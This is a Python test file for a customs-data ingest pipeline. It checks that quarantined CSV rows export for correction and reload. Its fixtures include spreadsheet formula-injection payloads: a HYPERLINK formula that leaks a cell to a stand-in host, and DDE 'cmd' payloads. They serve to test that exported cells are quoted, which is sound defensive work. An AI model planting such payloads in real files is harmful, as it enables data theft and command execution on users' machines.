"""Quarantined rows go out to an editable CSV, come back corrected, load, and resolve their quarantine entries."""

import csv
import io
import re

import duckdb
import polars as pl

from assets.ingest.corrections import export_corrections
from assets.ingest.landing import ingest_landing
from warehouse.home import Home

EXPORT = """Дата,Пункт пропуска,Вещество,Количество,Примечание
12.03.2023,Ойбек,героин,"1,5 кг",
31.02.2023,Ойбек,гашиш,2 кг,тел. +998 93 777-88-99
14.03.2023,Айритом,опий,пять кг,
"""


def test_corrected_rows_load_and_resolve_their_quarantine(tmp_path):
    home = Home(tmp_path / "home").ensure()
    landing = home.landing
    (landing / "customs_2023.csv").write_text(EXPORT, encoding="utf-8")
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    ingest_landing(con, home)
    assert con.execute("SELECT count(*) FROM core.quarantine").fetchall()[0][0] == 2

    (path,) = export_corrections(con, tmp_path / "out")
    assert path.name == "customs_2023.corrections.csv"
    sheet = pl.read_csv(path, infer_schema=False)
    assert sheet.columns[:3] == ["_source_file", "_source_row", "_reason"]
    assert sheet["_source_row"].to_list() == ["3", "4"]
    assert "+998" not in path.read_text(encoding="utf-8")  # personal data was scrubbed before quarantine
    fixed = sheet.with_columns(
        pl.when(pl.col("_source_row") == "3").then(pl.lit("28.02.2023")).otherwise("Дата").alias("Дата"))
    (landing / path.name).write_text(fixed.write_csv(), encoding="utf-8")  # the opium row stays unreadable

    ingest_landing(con, home)
    loaded = con.execute("SELECT substance_raw, period_start::VARCHAR FROM core.source_records "
                         "WHERE source_file = ?", [path.name]).fetchall()
    assert loaded == [("гашиш", "2023-02-28")]
    quarantine = con.execute("SELECT source_file, source_row, resolved_by FROM core.quarantine ORDER BY ALL"
                             ).fetchall()
    assert quarantine == [("customs_2023.corrections.csv", 3, None), ("customs_2023.csv", 3, path.name),
                          ("customs_2023.csv", 4, None)]
    # every row of both files is still accounted for
    for read, accounted in con.execute("SELECT rows_read, rows_loaded + rows_quarantined + rows_skipped "
                                       "FROM core.ingested_files").fetchall():
        assert read == accounted


FORMULAS = """Дата,Пункт пропуска,Вещество,Количество,Примечание
12.03.2023,Ойбек,героин,"1,5 кг",
13.03.2023,"=HYPERLINK(""http://x.example/?leak=""&A1,""open"")",героин,2 кг,
14.03.2023,Ойбек,=cmd|' /C calc'!A0,2 кг,-2+3+cmd|' /C calc'!A0
15.03.2023,Ойбек,опий,@SUM(1),+7 tip-off
"""
SPREADSHEET_EVALUATES = ("=", "+", "-", "@", "\t", "\r")


def test_formulas_go_out_quoted_and_come_back_as_they_were(tmp_path):
    home = Home(tmp_path / "home").ensure()
    (home.landing / "formulas_2023.csv").write_text(FORMULAS, encoding="utf-8")
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    ingest_landing(con, home)
    original = con.execute("SELECT source_row, reason FROM core.quarantine ORDER BY 1").fetchall()
    assert [row for row, _ in original] == [3, 4, 5] and all("formula" in reason for _, reason in original)

    (path,) = export_corrections(con, tmp_path / "out")
    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]
    risky = [c for c in cells if c.startswith(SPREADSHEET_EVALUATES) and not re.fullmatch(r"[+-]?\d+([.,]\d*)?", c)]
    assert not risky, risky  # 0 formula cells: each one quoted
    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8") and "'-2+3+cmd" in path.read_text(encoding="utf-8")

    (home.landing / path.name).write_bytes(path.read_bytes())  # sent back untouched: the original values return
    ingest_landing(con, home)
    back = con.execute("SELECT reason FROM core.quarantine WHERE source_file = ? ORDER BY source_row",
                       [path.name]).fetchall()
    assert [r for (r,) in back] == [r for _, r in original]
    assert con.execute("SELECT count(*) FROM core.quarantine WHERE resolved_by IS NOT NULL").fetchone()[0] == 0

    fixed = path.read_text(encoding="utf-8").replace("'@SUM(1)", "3 кг")  # staff correct one cell
    (home.landing / path.name).write_text(fixed, encoding="utf-8")
    ingest_landing(con, home)
    loaded = con.execute("SELECT substance_raw, mass_kg, remarks FROM core.source_records WHERE source_file = ?",
                         [path.name]).fetchall()
    assert loaded == [("опий", 3.0, "+7 tip-off")]  # the remark as the agency wrote it, quote gone
    assert con.execute("SELECT source_row FROM core.quarantine WHERE resolved_by IS NOT NULL").fetchall() == [(5,)]
